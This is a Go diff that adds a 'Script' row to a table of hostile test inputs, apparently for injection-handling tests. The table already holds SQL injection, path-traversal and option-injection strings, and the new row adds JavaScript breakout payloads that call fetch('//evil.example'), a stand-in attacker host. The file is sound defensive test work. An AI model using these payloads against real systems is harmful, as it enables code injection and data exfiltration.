@@ -501,6 +501,7 @@ var hostile = map[Kind][]string{
 	Words:   {"--output=/tmp/x", "-o/tmp/x", "-x", "--x"},
 	Query:   {"x' OR '1'='1", "1 OR 1=1", "x'--", "1;--"},
 	Request: {"../admin", "x@evil.example", "x/../../admin", "1/../../admin", "x?admin=1", "%2e%2e/admin"},
+	Script:  {"x');fetch('//evil.example');('", `x");fetch("//evil.example");("`, "x`+fetch('//evil.example')+`", "1;fetch('//evil.example')"},
 }
 
 // doubleDashJudge judges strings.HasPrefix(v, "--"): on the side where
